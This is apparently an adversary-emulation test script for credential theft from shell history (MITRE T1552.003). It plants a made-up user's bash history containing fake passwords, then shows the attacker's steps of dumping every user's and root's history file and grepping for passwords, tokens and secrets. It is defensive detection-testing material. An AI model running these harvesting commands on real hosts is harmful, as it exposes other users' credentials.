# technique: T1552.003
# tactic: credential-access
# name: Users' shell history files read and searched for typed passwords
# expect: detected
. "$EMULATION_LIB"
need grep
# Private, empty /home and /root with one made-up user: the host's home folders are never read.
private_tmpfs /home
private_tmpfs /root
mkdir -p /home/dba
cat > /home/dba/.bash_history <<'HIST'
ls -la
mysql -u root -pS3cr3tDBpass -h db.internal
export PGPASSWORD=pgAdmin2024
sshpass -p 'Backup#2024' ssh backup@10.0.0.5
curl -u admin:admin123 http://jenkins.internal:8080/api/json
HIST

# The attacker: dump every history file it can read and keep the lines that carry a password.
cat /home/*/.bash_history /root/.bash_history 2>/dev/null > history.txt || true
grep -E -i -- '-p[^ ]|pass|-u [^ ]+:|token|secret' history.txt > loot.txt
grep -q 'S3cr3tDBpass' loot.txt
